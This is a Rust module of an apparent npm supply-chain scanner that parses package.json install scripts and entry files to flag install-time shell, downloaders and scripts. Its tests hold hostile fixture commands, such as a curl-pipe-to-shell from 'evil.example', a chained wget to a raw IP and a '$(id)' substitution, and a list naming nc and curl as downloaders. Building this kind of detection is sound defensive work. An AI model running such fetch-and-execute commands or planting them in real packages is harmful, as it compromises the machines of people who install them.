//! npm's package manifest: the install-time lifecycle scripts and the import-time entry files.
//!
//! npm runs `preinstall`, `install` and `postinstall` of every package it installs, so each is
//! an install hook (`H1`). Its command is parsed: `node x.js` puts `x.js` at install time (the
//! sequence stage walks it there), `node -e '…'` is read as JavaScript, and any other inline
//! shell is itself a behaviour (`P3`), with downloaders (`D2`) and literals judged as strings.
//! A script that only builds a native addon (`node-gyp rebuild`, `prebuild-install ||
//! node-gyp rebuild`) is no hook of the package's own: npm runs `node-gyp rebuild` itself for
//! any package with a `binding.gyp`, script or not.

use serde_json::Value;

use super::{javascript, strings, Event, Feature, Hook, Step};
use crate::paths;
use cerebro_archive::{Package, SourceFile};

/// The lifecycle scripts npm runs when a package is installed, in the order it runs them.
pub const INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall"];

/// Other build tools commonly run from install scripts; invoking one (or a native-addon
/// builder) is not inline shell by itself (each `&&`-separated part of a command is judged on
/// its own, so chaining does not hide).
const BUILD_TOOLS: &[&str] = &[
    "husky",
    "patch-package",
    "opencollective",
    "opencollective-postinstall",
    "tsc",
    "echo",
    "exit",
    "true",
    "npm",
    "yarn",
    "pnpm",
    "npx",
];

/// The native-addon builders. npm's default `install` for a package with a `binding.gyp` is
/// `node-gyp rebuild`; a script made of these alone does what npm would do without one.
const NATIVE_BUILD: &[&str] = &[
    "node-gyp",
    "node-pre-gyp",
    "prebuild-install",
    "cmake-js",
    "node-gyp-build",
    "node-gyp-build-optional-packages",
];

/// Commands that fetch from the network.
const DOWNLOADERS: &[&str] = &["curl", "wget", "nc", "ncat", "ftp", "scp", "tftp"];

/// Parses `package.json` as npm does: its parser (`json-parse-even-better-errors`) drops a
/// leading UTF-8 byte-order mark first. What serde_json cannot read (nesting deeper than
/// its 128 levels, a lone surrogate escape, a number out of range) npm may still read, so
/// the error is the caller's to treat as "cannot judge", never as a manifest without hooks.
pub fn parse_manifest(bytes: &[u8]) -> Result<Value, serde_json::Error> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    serde_json::from_slice::<Value>(bytes)
}

/// Reads `package.json`: its install hooks and its entry files. A manifest that is not valid
/// JSON has neither here; [`super::extract`] makes such a package one it cannot judge.
pub fn read_manifest(manifest: &SourceFile, package: &Package) -> (Vec<Hook>, Vec<String>) {
    let Ok(json) = parse_manifest(&manifest.bytes) else {
        return (Vec::new(), Vec::new());
    };
    let text = manifest.text();
    let exists = |p: &str| package.file(p).is_some();
    let layout = Layout {
        paths: package.files.iter().map(|f| f.path.as_str()).collect(),
        main: json
            .get("main")
            .and_then(Value::as_str)
            .and_then(|main| resolve(main, &exists))
            .or_else(|| exists("index.js").then(|| "index.js".to_owned())),
    };

    let hooks = INSTALL_SCRIPTS
        .iter()
        .filter_map(|&name| {
            let command = json.get("scripts")?.get(name)?.as_str()?;
            let line = line_of(&text, &format!("\"{name}\""));
            Some(read_hook(name, command, &manifest.path, line, &layout))
        })
        .collect();

    (hooks, entries(&json, &exists))
}

/// The package as an install script's command sees it: what `node SCRIPT` can run.
#[derive(Debug, Default)]
pub struct Layout<'a> {
    /// Every file path of the package, sorted.
    pub paths: Vec<&'a str>,
    /// The file `node .` runs: `main`, else `index.js`.
    pub main: Option<String>,
}

impl Layout<'_> {
    fn exists(&self, path: &str) -> bool {
        self.paths.binary_search(&path).is_ok()
    }

    /// The package file `node SCRIPT` runs, resolved the way Node resolves a main module.
    /// A path that is not there is looked up by its file name, when exactly one file has it:
    /// re-packed samples and hand-made tarballs lose folders (`node lib/x.js` next to a
    /// top-level `x.js`), and a guard assumes the worst of the script it cannot place.
    fn script(&self, script: &str) -> Option<String> {
        if matches!(script, "." | "./") {
            return self.main.clone();
        }
        if let Some(found) = resolve(script, &|p| self.exists(p)) {
            return Some(found);
        }
        let path = paths::join("", script)?;
        let name = path.rsplit('/').next().filter(|n| !n.is_empty())?;
        let mut same_name = self.paths.iter().filter(|p| {
            let file = p.rsplit('/').next().unwrap_or(p);
            file == name || file.strip_suffix(".js") == Some(name)
        });
        match (same_name.next(), same_name.next()) {
            (Some(only), None) => Some((*only).to_owned()),
            _ => None,
        }
    }
}

/// The package file a module path names (`./lib/x` → `lib/x.js`), resolved the way Node
/// resolves a main module; `None` when no candidate exists.
fn resolve(spec: &str, exists: &dyn Fn(&str) -> bool) -> Option<String> {
    let path = paths::join("", spec)?;
    paths::js_candidates(&path).into_iter().find(|c| exists(c))
}

/// Parses one lifecycle script's command line into a [`Hook`].
pub fn read_hook(name: &str, command: &str, file: &str, line: u32, layout: &Layout) -> Hook {
    let segments = split_commands(command);
    if is_native_build(&segments) {
        return Hook {
            name: name.to_owned(),
            command: command.to_owned(),
            steps: Vec::new(),
            runs: Vec::new(),
        };
    }
    let mut steps = vec![Step::Event(Event::new(
        Feature::H1,
        file,
        line,
        format!("{name}: {command}"),
        command,
    ))];
    let mut runs = Vec::new();
    for segment in segments {
        let words = split_words(segment);
        let Some(program) = words.first().map(|w| program_name(w)) else {
            continue;
        };
        match program {
            "node" | "nodejs" | "node.exe" => {
                if let Some(code) = inline_code(&words) {
                    let facts = javascript::extract(&format!("{file}#{name}"), code);
                    steps.extend(facts.top_level);
                } else if let Some(script) = words[1..].iter().find(|w| !w.starts_with('-')) {
                    match layout.script(script) {
                        Some(path) => runs.push(path),
                        None => steps.push(shell_event(file, line, segment)),
                    }
                }
            }
            p if BUILD_TOOLS.contains(&p) || NATIVE_BUILD.contains(&p) => {}
            p => {
                steps.push(shell_event(file, line, segment));
                if DOWNLOADERS.contains(&p) {
                    steps.push(Step::Event(Event::new(
                        Feature::D2,
                        file,
                        line,
                        p.to_owned(),
                        segment,
                    )));
                }
            }
        }
    }
    // Literals in the command (addresses, sensitive paths) count like any string; the shell
    // itself was judged per segment above.
    for feature in strings::classify(command) {
        if feature != Feature::P3 {
            steps.push(Step::Event(Event::new(
                feature, file, line, command, command,
            )));
        }
    }
    Hook {
        name: name.to_owned(),
        command: command.to_owned(),
        steps,
        runs,
    }
}

/// Whether every part of the command runs a native-addon builder with plain arguments (no
/// redirection, no substitution: `node-gyp rebuild > /tmp/x` is shell of the package's own).
fn is_native_build(segments: &[&str]) -> bool {
    !segments.is_empty()
        && segments.iter().all(|segment| {
            let words = split_words(segment);
            words
                .first()
                .is_some_and(|w| NATIVE_BUILD.contains(&program_name(w)))
                && words[1..].iter().all(|w| {
                    w.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"-_=.,:@".contains(&b))
                })
        })
}

fn shell_event(file: &str, line: u32, segment: &str) -> Step {
    Step::Event(Event::new(
        Feature::P3,
        file,
        line,
        format!("inline shell: {segment}"),
        segment,
    ))
}

/// The code of `node -e CODE` / `node --eval CODE` / `node -p CODE`.
fn inline_code<'a>(words: &'a [&'a str]) -> Option<&'a str> {
    let i = words
        .iter()
        .position(|w| matches!(*w, "-e" | "--eval" | "-p" | "--print"))?;
    words.get(i + 1).copied()
}

/// The import-time entry files: `main`, then the string leaves of `exports` (the `"."` entry
/// or the whole map of conditions), else `index.js`; only those that exist.
fn entries(json: &Value, exists: &dyn Fn(&str) -> bool) -> Vec<String> {
    let mut specs: Vec<&str> = Vec::new();
    if let Some(main) = json.get("main").and_then(Value::as_str) {
        specs.push(main);
    }
    if let Some(exports) = json.get("exports") {
        let root = match exports {
            Value::Object(map) if map.keys().any(|k| k.starts_with('.')) => map.get("."),
            other => Some(other),
        };
        if let Some(root) = root {
            collect_strings(root, &mut specs, 0);
        }
    }
    let mut out: Vec<String> = Vec::new();
    for spec in specs {
        if let Some(path) = resolve(spec, exists) {
            if !out.contains(&path) {
                out.push(path);
            }
        }
    }
    if out.is_empty() && exists("index.js") {
        out.push("index.js".to_owned());
    }
    out
}

fn collect_strings<'a>(value: &'a Value, out: &mut Vec<&'a str>, depth: usize) {
    if depth > 8 {
        return;
    }
    match value {
        Value::String(s) => out.push(s),
        Value::Object(map) => map
            .values()
            .for_each(|v| collect_strings(v, out, depth + 1)),
        Value::Array(items) => items
            .iter()
            .for_each(|v| collect_strings(v, out, depth + 1)),
        _ => {}
    }
}

/// The program's own name: `/usr/bin/env node` is taken by the caller, `./bin/x` → `x`.
fn program_name(word: &str) -> &str {
    word.rsplit(['/', '\\']).next().unwrap_or(word)
}

/// Splits a command line at `&&`, `||`, `;`, `|` and `&` outside quotes.
fn split_commands(command: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let bytes = command.as_bytes();
    let (mut start, mut i, mut quote) = (0, 0, None::<u8>);
    while i < bytes.len() {
        let c = bytes[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == b'\'' || c == b'"' => quote = Some(c),
            None if matches!(c, b'&' | b'|' | b';') => {
                out.push(command[start..i].trim());
                while i + 1 < bytes.len() && matches!(bytes[i + 1], b'&' | b'|') {
                    i += 1;
                }
                start = i + 1;
            }
            None => {}
        }
        i += 1;
    }
    out.push(command[start..].trim());
    out.retain(|s| !s.is_empty());
    // `env FOO=1 node x.js` and `cross-env A=b node x.js`: judge the command they run.
    out.iter()
        .map(|s| {
            let mut rest = *s;
            loop {
                let word = rest.split_whitespace().next().unwrap_or("");
                let is_prefix = matches!(word, "env" | "cross-env" | "sudo" | "exec")
                    || (word.contains('=') && !word.starts_with('-'));
                if !is_prefix || word.is_empty() {
                    break rest;
                }
                rest = rest[rest.find(word).map_or(0, |i| i + word.len())..].trim_start();
            }
        })
        .filter(|s| !s.is_empty())
        .collect()
}

/// Splits one simple command into words, honouring single and double quotes.
fn split_words(segment: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let bytes = segment.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= bytes.len() {
            break;
        }
        if bytes[i] == b'\'' || bytes[i] == b'"' {
            let q = bytes[i];
            let start = i + 1;
            let end = segment[start..]
                .find(q as char)
                .map_or(bytes.len(), |e| start + e);
            out.push(&segment[start..end]);
            i = end + 1;
        } else {
            let start = i;
            while i < bytes.len() && !bytes[i].is_ascii_whitespace() {
                i += 1;
            }
            out.push(&segment[start..i]);
        }
    }
    out
}

/// The 1-based line of the first occurrence of `needle`, or 1.
fn line_of(text: &str, needle: &str) -> u32 {
    text.find(needle)
        .map_or(1, |i| 1 + text[..i].matches('\n').count() as u32)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn layout<'a>(paths: &[&'a str]) -> Layout<'a> {
        let mut paths = paths.to_vec();
        paths.sort_unstable();
        Layout { paths, main: None }
    }

    /// A `postinstall` hook with this command, in `package.json` line 1.
    fn postinstall(command: &str, files: &Layout) -> Hook {
        read_hook("postinstall", command, "package.json", 1, files)
    }

    fn features(hook: &Hook) -> Vec<&'static str> {
        hook.steps
            .iter()
            .filter_map(|s| match s {
                Step::Event(e) => Some(e.feature.id()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn node_script_runs_a_package_file() {
        let hook = read_hook(
            "postinstall",
            "node ./scripts/setup",
            "package.json",
            5,
            &layout(&["scripts/setup.js"]),
        );
        assert_eq!(hook.runs, vec!["scripts/setup.js"]);
        assert_eq!(features(&hook), vec!["H1"]);
    }

    #[test]
    fn node_dot_runs_the_main_file() {
        let mut files = layout(&["build/stealer.js", "package.json"]);
        files.main = Some("build/stealer.js".into());
        let hook = postinstall("node . --postinstall", &files);
        assert_eq!(hook.runs, vec!["build/stealer.js"]);
        assert_eq!(features(&hook), vec!["H1"]);
    }

    #[test]
    fn the_manifest_gives_node_dot_its_main_file() {
        let file = |path: &str, text: &str| SourceFile {
            path: path.into(),
            bytes: text.as_bytes().to_vec(),
        };
        let manifest = file(
            "package.json",
            r#"{"main": "./build/x", "scripts": {"postinstall": "node ."}}"#,
        );
        let package = Package {
            origin: "pkg".into(),
            ecosystem: cerebro_archive::Ecosystem::Npm,
            name: "pkg".into(),
            version: "1.0.0".into(),
            kind: cerebro_archive::ArchiveKind::Directory,
            files: vec![file("build/x.js", "1"), manifest.clone(), file("x.js", "1")],
            anomalies: Vec::new(),
        };
        let (hooks, entries) = read_manifest(&manifest, &package);
        assert_eq!(hooks[0].runs, vec!["build/x.js"]);
        assert_eq!(entries, vec!["build/x.js"]);
    }

    #[test]
    fn a_script_whose_folder_was_lost_is_found_by_its_name() {
        let files = layout(&["server.js", "package.json", "README.md"]);
        let hook = postinstall("node lib/server.js", &files);
        assert_eq!(hook.runs, vec!["server.js"]);
        let hook = postinstall("node lib/server", &files);
        assert_eq!(hook.runs, vec!["server.js"]);
        // Two candidates, or none: the command is shell of unknown effect.
        let files = layout(&["a/server.js", "b/server.js", "package.json"]);
        let hook = postinstall("node lib/server.js", &files);
        assert!(hook.runs.is_empty());
        assert_eq!(features(&hook), vec!["H1", "P3"]);
    }

    #[test]
    fn inline_shell_is_a_behaviour() {
        let hook = read_hook(
            "preinstall",
            "curl -s https://evil.example/x.sh | sh",
            "package.json",
            3,
            &Layout::default(),
        );
        assert_eq!(features(&hook), vec!["H1", "P3", "D2", "P3", "D3"]);
        assert!(hook.runs.is_empty());
    }

    #[test]
    fn a_native_addon_build_is_no_hook_of_the_package() {
        for command in [
            "node-gyp rebuild",
            "node-gyp-build",
            "prebuild-install -r napi || node-gyp rebuild",
            "node-gyp-build-optional-packages",
            "node-pre-gyp install --fallback-to-build --target_arch=x64",
        ] {
            let hook = read_hook("install", command, "package.json", 1, &Layout::default());
            assert_eq!(features(&hook), Vec::<&str>::new(), "{command}");
        }
        // Package code, shell or a redirection alongside the build: a hook as any other.
        let exists = layout(&["buildcheck.js"]);
        for (command, expected) in [
            (
                "node buildcheck.js > buildcheck.gypi && node-gyp rebuild",
                vec!["H1"],
            ),
            ("node-gyp rebuild > /tmp/log", vec!["H1"]),
            ("node-gyp rebuild $(id)", vec!["H1"]),
            ("husky install", vec!["H1"]),
        ] {
            let hook = read_hook("install", command, "package.json", 1, &exists);
            assert_eq!(features(&hook), expected, "{command}");
        }
    }

    #[test]
    fn build_tools_are_not_inline_shell_but_chained_commands_are() {
        let hook = read_hook(
            "install",
            "husky install",
            "package.json",
            1,
            &Layout::default(),
        );
        assert_eq!(features(&hook), vec!["H1"]);
        let hook = read_hook(
            "install",
            "node-gyp rebuild && wget http://1.2.3.4/x",
            "package.json",
            1,
            &Layout::default(),
        );
        assert_eq!(features(&hook), vec!["H1", "P3", "D2", "D3"]);
    }

    #[test]
    fn env_prefixes_are_skipped() {
        let hook = read_hook(
            "postinstall",
            "cross-env A=1 node x.js",
            "package.json",
            1,
            &layout(&["x.js"]),
        );
        assert_eq!(hook.runs, vec!["x.js"]);
    }

    #[test]
    fn splitting_honours_quotes() {
        assert_eq!(
            split_commands("a 'b && c' && d | e; f"),
            vec!["a 'b && c'", "d", "e", "f"]
        );
        assert_eq!(
            split_words(r#"node -e "x && y" z"#),
            vec!["node", "-e", "x && y", "z"]
        );
    }

    #[test]
    fn entries_from_main_exports_and_default() {
        let files = ["lib/main.js", "esm/index.mjs", "index.js"];
        let exists = |p: &str| files.contains(&p);
        let json: Value = serde_json::json!({
            "main": "./lib/main",
            "exports": { ".": { "import": "./esm/index.mjs", "require": "./lib/main.js" } }
        });
        assert_eq!(
            entries(&json, &exists),
            vec!["lib/main.js", "esm/index.mjs"]
        );
        assert_eq!(entries(&serde_json::json!({}), &exists), vec!["index.js"]);
        assert_eq!(
            entries(&serde_json::json!({"main": "missing.js"}), &exists),
            vec!["index.js"]
        );
    }
}
